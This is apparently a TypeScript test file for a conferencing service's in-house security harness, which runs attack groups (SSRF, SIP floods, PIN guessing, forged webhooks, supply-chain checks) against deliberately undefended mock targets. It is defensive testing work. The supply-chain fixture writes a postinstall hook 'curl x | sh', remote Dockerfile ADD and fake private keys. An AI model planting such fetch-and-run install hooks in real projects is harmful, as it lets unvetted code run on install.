import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Webhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workspaceRoot } from '@partyline/dev/workspace';
import type { AccountVault } from '@partyline/conference/providers/account-vault';
import type { AccountCredentials } from '@partyline/provider-contract/account-credentials';
import { ensureDataKey } from '@partyline/store/provider-accounts/data-keys';
import { failuresOf, runGroup, type Group } from './group.ts';
import { GROUPS } from './groups/all.ts';
import { credentialEncryption } from './groups/credential-encryption.ts';
import { accountWebhooks } from './groups/account-webhooks.ts';
import { apiKeys } from './groups/api-keys.ts';
import { callers } from './groups/callers.ts';
import { canaries } from './groups/canaries.ts';
import { databases } from './groups/databases.ts';
import { dialOutFraud } from './groups/dial-out-fraud.ts';
import { pinEncryption } from './groups/pin-encryption.ts';
import { edges } from './groups/edges.ts';
import { eventFuzz } from './groups/event-fuzz.ts';
import { eventSignatures, type Verifier } from './groups/event-signatures.ts';
import { forgedLegs } from './groups/forged-legs.ts';
import { forgedRequests } from './groups/forged-requests.ts';
import { gatewaySocket } from './groups/gateway-socket.ts';
import { histories } from './groups/histories.ts';
import { matrix } from './groups/matrix.ts';
import { pinGuesses } from './groups/pin-guesses.ts';
import { providerJwt } from './groups/provider-jwt.ts';
import { quotas } from './groups/quotas.ts';
import { rowLevelSecurity } from './groups/row-level-security.ts';
import { sip } from './groups/sip.ts';
import { ssrf } from './groups/ssrf.ts';
import { openCheckout, supplyChain } from './groups/supply-chain.ts';
import type { Meeting } from './self-hosted/meeting.ts';
import { startUndefendedMeeting } from './testing/undefended-meeting.ts';
import type { Target } from './target.ts';
import { startUndefendedTarget, type Responder } from './testing/undefended-target.ts';

let undefended: Awaited<ReturnType<typeof startUndefendedTarget>>;
beforeAll(async () => {
  undefended = await startUndefendedTarget();
});
afterAll(() => undefended.stop());

/** Prompts every caller for a PIN and admits them with any digits. */
const admitEveryCaller: Responder = (path) => ({
  status: 200,
  body: path.includes('/digits/')
    ? [{ action: 'conversation' }]
    : [{ action: 'input', eventUrl: ['http://hooks/v1/voice/digits/leg_x/1'] }],
});
/** Applies events to ended calls, and accepts used tokens. */
const applyEveryEvent: Responder = async (path, body, owner) => {
  const { uuid } = JSON.parse(body) as { uuid: string };
  if (path === '/v1/voice/answer')
    await owner.pool.query(
      `INSERT INTO leg (id, kind, state, voice_call_id, deadline_at)
       VALUES ($1, 'inbound', 'ended', $2, now())
       ON CONFLICT DO NOTHING`,
      [`leg_${uuid}`, uuid],
    );
  else await owner.pool.query(`UPDATE leg SET reason = COALESCE(reason, '') || 'x' WHERE voice_call_id = $1`, [uuid]);
  return { status: 200, body: {} };
};
/** Stores every call and its charge without a tenant, and every connection. */
const storeEveryCall: Responder = async (path, body, owner) => {
  if (path === '/v1/rooms') return { status: 201, body: { room: { id: 'room' }, client: { mediaSessionId: 'media' } } };
  if (path === '/v1/rooms/room/end') return { status: 202, body: {} };
  if (path.endsWith('/video/events')) {
    const { connection } = JSON.parse(body) as { connection: { id: string } };
    await owner.pool.query(
      `INSERT INTO leg (id, kind, state, media_connection_id, deadline_at) VALUES ($1, 'webrtc', 'joined', $1, now())`,
      [connection.id],
    );
    return { status: 200, body: { result: 'applied' } };
  }
  const { uuid } = JSON.parse(body) as { uuid: string };
  if (path.endsWith('/voice/answer'))
    await owner.pool.query(
      `INSERT INTO leg (id, kind, state, voice_call_id, deadline_at) VALUES ($1, 'inbound', 'ending', $2, now())`,
      [`leg_${uuid}`, uuid],
    );
  else
    await owner.pool.query(
      `INSERT INTO cdr (id, leg_id, handle, direction, ended_at, seconds, source, currency, estimate_micro)
       VALUES ($1, $2, 'voice', 'inbound', now(), 60, 'callback', 'EUR', 0)`,
      [`cdr_${uuid}`, `leg_${uuid}`],
    );
  return { status: 200, body: [{ action: 'input' }] };
};
/** Answers while Postgres is read-only, and accepts every call without placing it. */
const acceptEveryCall: Responder = (path) => {
  if (path === '/v1/rooms') return { status: 201, body: { room: { id: 'room' } } };
  return path.endsWith('/participants') ? { status: 202, body: { legId: 'leg_unknown' } } : { status: 200, body: {} };
};
/** Opens rooms, and rejects calls and webhooks whatever they are. */
const rejectEveryCall: Responder = (path) => {
  if (path === '/v1/rooms') return { status: 201, body: { room: { id: 'room' }, client: { mediaSessionId: 'media' } } };
  return { status: path.endsWith('/participants') ? 429 : 401, body: { reason: 'fraud-limit' } };
};
/** Enforces no limit. */
const grantEveryRequest: Responder = (path) => ({
  status: path === '/v1/rooms' ? 201 : 200,
  body: { tenant: { id: 'ten_greedy' }, key: 'pl_x' },
});
const revealPrivateValues: Responder = () => ({
  status: 200,
  body: { everything: undefended.target.victim.privateValues },
});
const failEveryRequest: Responder = () => ({ status: 500, body: {} });

/** Signed deliveries as the services send them. */
const capture: Verifier['capture'] = async () => {
  const secret = `whsec_${randomBytes(32).toString('base64')}`;
  const at = new Date();
  const deliveries = Array.from({ length: 12 }, (_, n) => `evt_a_${n + 1}`).map((id) => {
    const body = JSON.stringify({ id, type: 'session.ended', data: { reason: 'x' } });
    return {
      body,
      headers: {
        'webhook-id': id,
        'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
        'webhook-signature': new Webhook(secret).sign(id, at, body),
      },
    };
  });
  return { secret, deliveries };
};

/** One of each step. */
const FAULTS_AT_GATEWAYS: Readonly<Record<string, readonly RegExp[]>> = {
  SIP: [
    /OPTIONS of sipvicious: was answered 200/,
    /a call as anyone to .*: answered 200/,
    /a call as gw-1 to .*, without credentials: answered 200/,
    /a registration of gw-evil at .*, from outside: answered 200/,
    /a registration with repeated credentials: answered 200/,
    /BYE in a call with guessed tags, route 0: answered 200/,
    /a response 200 OK to INVITE: was answered 200/,
    /POST \/hang-up with no secret: answered 200/,
    /malformed \d+: INVITE with .*: answered 200/,
    /a stream with Content-Length -1: answered 200/,
    /a third party, after calls of strangers: got \d+ messages: INVITE/,
    /a new call during the flood: did not get through/,
    /the sound of calls during the flood: a phone did not hear/,
  ],
  'gateway socket': [
    /a binary message, from no conference: was accepted/,
    /a token: expired 1 s ago: was accepted/,
    /a guessed secret: was accepted/,
    /a message of 65537 bytes: was answered/,
    /a flood of a member: got \d+ replies/,
    /an upgrade of \/v1\/socket with another secret: answered 101/,
    /a repeated upgrade of .*members: answered 101/,
    /POST \/v1\/calls unsigned: answered 200/,
    /a repeated control request: answered 200/,
    /idle sockets: were all accepted/,
  ],
};

describe('a group finds faults in a target without defences', () => {
  it.each<[Group, Responder]>([
    [edges, revealPrivateValues],
    [providerJwt, revealPrivateValues],
    [accountWebhooks, admitEveryCaller],
    [forgedLegs, storeEveryCall],
    [eventFuzz, failEveryRequest],
    [histories, applyEveryEvent],
    [matrix, revealPrivateValues],
    [rowLevelSecurity, revealPrivateValues],
    [apiKeys, revealPrivateValues],
    [pinGuesses, admitEveryCaller],
    [callers, admitEveryCaller],
    [canaries, revealPrivateValues],
    [ssrf, revealPrivateValues],
    [dialOutFraud, revealPrivateValues],
    [quotas, grantEveryRequest],
    [databases, acceptEveryCall],
  ])('$name', async (group, manners) => {
    undefended.setResponder(manners);
    const { accepted, inputs } = await runGroup(group, undefended.target);
    expect(accepted.length).toBeGreaterThan(inputs / 20);
    expect(accepted.join('\n')).not.toContain('the group failed');
  });

  it.each<[Group, readonly RegExp[]]>([
    [forgedLegs, [/a call without an end: answered 401/, /an end with a high price: answered 401/]],
    [callers, [/wrong PINs of forged calls: were stored of 0 callers/, /had no leg before the suspension/]],
    [databases, [/the calls that fit: were all rejected/, /a call too many: answered 429 fraud-limit/]],
  ])('$name, which rejects everything', async (group, faults) => {
    undefended.setResponder(rejectEveryCall);
    const { accepted } = await runGroup(group, undefended.target);
    for (const fault of faults) expect(accepted.join('\n')).toMatch(fault);
    expect(accepted.join('\n')).not.toContain('the group failed');
  });

  describe('at our own gateways', () => {
    let meeting: Meeting;
    beforeAll(async () => {
      meeting = await startUndefendedMeeting();
    });
    afterAll(() => meeting.close());

    it.each<Group<Pick<Target, 'seed' | 'openMeeting'>>>([sip, gatewaySocket])(
      '$name',
      { timeout: 120_000 },
      async (group) => {
        const { accepted, inputs } = await runGroup(group, { seed: 1, openMeeting: async () => meeting });
        expect(accepted.length).toBeGreaterThan(inputs / 3);
        const text = accepted.join('\n');
        expect(text.includes('the group failed')).toBe(false);
        const faults = [
          /the calls of others, after .*: ended/,
          /the processes: were/,
          ...FAULTS_AT_GATEWAYS[group.name]!,
        ];
        expect(faults.filter((fault) => !fault.test(text))).toEqual([]);
      },
    );

    it('fails without gateways, in one sentence', async () => {
      const missing = 'A Janus server was not found.';
      const { accepted } = await runGroup(sip, { seed: 1, openMeeting: () => Promise.reject(new Error(missing)) });
      expect(accepted).toEqual([`after 0 inputs: the group failed: ${missing}`]);
    });
  });

  it('event signatures', async () => {
    const { accepted, inputs, minInputs } = await runGroup(eventSignatures, { seed: 1, verify: () => true, capture });
    expect(accepted.length).toBeGreaterThan(inputs * 0.9);
    expect(inputs).toBeGreaterThan(minInputs);
    // And no faults in the real verifier.
    expect((await runGroup(eventSignatures, { seed: 1, capture })).accepted).toEqual([]);
  });

  it('forged RPC requests', async () => {
    const answerEverything = async () => ({
      prefix: 'partyline',
      secret: randomBytes(32).toString('base64url'),
      send: () => ({ answered: Promise.resolve() }),
      close: () => undefined,
    });
    const { accepted, inputs } = await runGroup(forgedRequests, answerEverything);
    expect(accepted).toHaveLength(inputs);
  });

  it('PIN encryption', async () => {
    const openVault = () => ({
      lookups: () => [randomBytes(32)] as const,
      encrypt: (pin: string) => Buffer.from(pin),
      decrypt: (ciphertext: Uint8Array) => Buffer.from(ciphertext).toString(),
    });
    // All nonces are distinct except the last two.
    const sealMany = async (count: number) =>
      Buffer.from(Uint32Array.from({ length: count * 3 }, (_, at) => Math.min(Math.floor(at / 3), count - 2)).buffer);
    const { accepted } = await runGroup(pinEncryption, { seed: 1, openVault, encryptMany: sealMany });
    expect(accepted.join('\n')).toMatch(
      /flipped.*\n[^]*cut to[^]*another key[^]*a key of 0 bytes[^]*used a nonce twice/,
    );
  });

  it('credential encryption', async () => {
    const { owner, victim, attacker, seed } = undefended.target;
    const openVault = (): AccountVault => ({
      encrypt: async (as, credentials) => {
        await ensureDataKey(owner, as.tenantId, { keyId: 'none', wrapped: Buffer.from('in clear') });
        return Buffer.from(JSON.stringify(credentials));
      },
      decrypt: async (_as, ciphertext) => JSON.parse(Buffer.from(ciphertext).toString()) as AccountCredentials,
    });
    const { accepted } = await runGroup(credentialEncryption, { seed, owner, victim, attacker, openVault });
    expect(accepted.join('\n')).toMatch(
      /flipped[^]*moved to[^]*another master key[^]*the data key of another tenant[^]*used a nonce twice/,
    );
  });

  it('supply chain', async () => {
    const root = mkdtempSync(join(tmpdir(), 'partyline-checkout-'));
    const write = (path: string, text: string | object): void =>
      writeFileSync(join(root, path), typeof text === 'string' ? text : JSON.stringify(text));
    write('package.json', {
      name: 'x',
      dependencies: { left: '^1.0.0', right: 'github:a/b' },
      overrides: { a: '*' },
      scripts: { postinstall: 'curl x | sh' },
      allowScripts: { left: true },
    });
    write('package-lock.json', {
      lockfileVersion: 1,
      packages: {
        '': {},
        'node_modules/left': { hasInstallScript: true, resolved: 'git+ssh://x' },
        'node_modules/other': { hasInstallScript: true, integrity: 'sha1-x' },
        'node_modules/@partyline/evil': {},
        'node_modules/linked': { link: true },
      },
    });
    write('Dockerfile', 'FROM node:latest\nADD https://x /x\nRUN npm install\nRUN npm ci --omit=dev\n');
    write('.dockerignore', '');
    write('.gitignore', '');
    write('server.pem', `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(64)}`);
    write('key.md', `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(64)}`);
    const { inputs, accepted } = await runGroup(supplyChain, {
      root,
      files: ['package.json', 'Dockerfile', 'server.pem', 'key.md'],
    });
    // Every check but "there is an image" must fail.
    expect(accepted).toHaveLength(inputs - 1);
  });
});

it('the supply chain group finds no fault in this checkout', async () => {
  expect((await runGroup(supplyChain, openCheckout(workspaceRoot))).accepted).toEqual([]);
});

describe('runGroup', () => {
  it('fails when a group made too few inputs', async () => {
    const idle = await runGroup({ name: 'idle', summary: '', minInputs: 1, run: async () => undefined }, undefined);
    expect(failuresOf('idle', idle)).toEqual(['idle: made 0 inputs, but needs at least 1']);
  });

  it('fails when a group throws', async () => {
    const broken = await runGroup(
      { name: 'broken', summary: '', minInputs: 0, run: () => Promise.reject(new Error('no')) },
      undefined,
    );
    expect(failuresOf('broken', broken)).toEqual(['broken: after 0 inputs: the group failed: no']);
  });

  it('has groups with distinct names, and reads the logs last', () => {
    expect(GROUPS.map(({ name }) => name)).toEqual([...new Set(GROUPS.map(({ name }) => name))]);
    expect(GROUPS.at(-1)).toBe(canaries);
  });
});
